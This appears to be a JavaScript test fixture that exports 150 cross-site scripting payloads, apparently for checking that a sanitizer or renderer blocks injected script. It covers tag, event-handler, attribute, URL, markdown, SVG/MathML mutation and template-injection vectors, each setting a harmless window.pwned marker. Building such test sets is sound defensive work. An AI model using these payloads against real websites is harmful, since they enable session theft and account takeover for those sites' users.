/** What people have tried to make a page run: 150 ways of writing a script where words are expected. */
const run = 'window.pwned=1';

const tags = [
	`<script>${run}</script>`,
	`<ScRiPt>${run}</sCrIpT>`,
	`<script src=data:text/javascript,${run}></script>`,
	`<script type=module>${run}</script>`,
	`<script\n>${run}</script\n>`,
	`<script/x>${run}</script>`,
	`</title><script>${run}</script>`,
	`</textarea><script>${run}</script>`,
	`</style><script>${run}</script>`,
	`</script><script>${run}</script>`,
	`</option></select><script>${run}</script>`,
	`--><script>${run}</script>`,
	`]]><script>${run}</script>`,
	`"><script>${run}</script>`,
	`'><script>${run}</script>`,
	`\`><script>${run}</script>`,
	`<<script>${run}//<</script>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`<noscript><p title="</noscript><script>${run}</script>">`,
	`<template><script>${run}</script></template>`,
	`<base href="javascript:${run}//">`,
	`<meta http-equiv=refresh content="0;url=javascript:${run}">`,
	`<link rel=stylesheet href="javascript:${run}">`,
	`<link rel=import href="data:text/html,<script>${run}</script>">`,
	`<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	`<iframe onload=${run}>`,
	`<object data="javascript:${run}"></object>`,
	`<embed src="javascript:${run}">`,
	`<form action="javascript:${run}"><button>x</button></form>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<isindex type=image src=1 onerror=${run}>`,
	`<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
	`<math href="javascript:${run}">x</math>`,
	`<style>@import'javascript:${run}';</style>`,
	`<style>*{background:url(javascript:${run})}</style>`
];

const handlers = [
	['img src=x', 'onerror'],
	['img src=x:x', 'onerror'],
	['svg', 'onload'],
	['svg/', 'onload'],
	['body', 'onload'],
	['body', 'onpageshow'],
	['body', 'onhashchange'],
	['input autofocus', 'onfocus'],
	['select autofocus', 'onfocus'],
	['textarea autofocus', 'onfocus'],
	['video src=x', 'onerror'],
	['audio src=x', 'onerror'],
	['video><source', 'onerror'],
	['details open', 'ontoggle'],
	['marquee', 'onstart'],
	['div', 'onmouseover'],
	['div', 'onpointerenter'],
	['a href=#', 'onclick'],
	['p style="animation:x"', 'onanimationstart'],
	['p style="transition:all 1s"', 'ontransitionend'],
	['p contenteditable', 'onblur'],
	['keygen autofocus', 'onfocus'],
	['object data=x', 'onerror'],
	['embed src=x', 'onerror'],
	['link rel=stylesheet href=x', 'onerror'],
	['script src=x', 'onerror'],
	['dialog open', 'onclose'],
	['form', 'onsubmit'],
	['form', 'onformdata'],
	['slot', 'onslotchange'],
	['track', 'oncuechange'],
	['p popover id=q', 'onbeforetoggle']
].flatMap(([tag, handler]) => [`<${tag} ${handler}=${run}>`, `"><${tag} ${handler}="${run}">`]);

const attributes = [
	`" onmouseover="${run}`,
	`' onmouseover='${run}`,
	`" autofocus onfocus="${run}" x="`,
	`' autofocus onfocus='${run}' x='`,
	`" style="background:url(javascript:${run})`,
	`"/onclick="${run}"/x="`,
	`x" onerror="${run}" src="x`,
	`\`onmouseover=${run}`
];

const addresses = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	`java\tscript:${run}`,
	`java\nscript:${run}`,
	` javascript:${run}`,
	`\u0001javascript:${run}`,
	`&#106;avascript:${run}`,
	`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
	`vbscript:${run}`,
	`data:text/html,<script>${run}</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
	`[x](javascript:${run})`,
	`[x](<javascript:${run}>)`,
	`[x]: javascript:${run}\n\n[x]`,
	`![x](javascript:${run})`,
	`![x](x"onerror="${run})`,
	`[x](x "title" onclick="${run}")`,
	`<javascript:${run}>`,
	`[x](data:text/html,<script>${run}</script>)`,
	`[x](  javascript:${run})`,
	`[x](javascript&colon;${run})`,
	`https://example.org/"onmouseover="${run}`,
	`https://example.org/'><img src=x onerror=${run}>`,
	`http://javascript:${run}`
];

const vectors = [
	`<svg><script>${run}</script></svg>`,
	`<svg><script xlink:href="data:,${run}"></script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><set onbegin=${run} attributeName=x>`,
	`<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
	`<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
	`<svg><style><img src=x onerror=${run}></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${run}>">`
];

const expressions = [
	`{{constructor.constructor('${run}')()}}`,
	`\${${run}}`,
	`{@html '<script>${run}</script>'}`,
	`{#if ${run}}{/if}`,
	`<%= ${run} %>`,
	`#{${run}}`,
	`\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
	`%3Cscript%3E${run}%3C/script%3E`,
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`\uff1cscript\uff1e${run}\uff1c/script\uff1e`
];

export const payloads = [...tags, ...handlers, ...attributes, ...addresses, ...vectors, ...expressions].slice(
	0,
	150
);
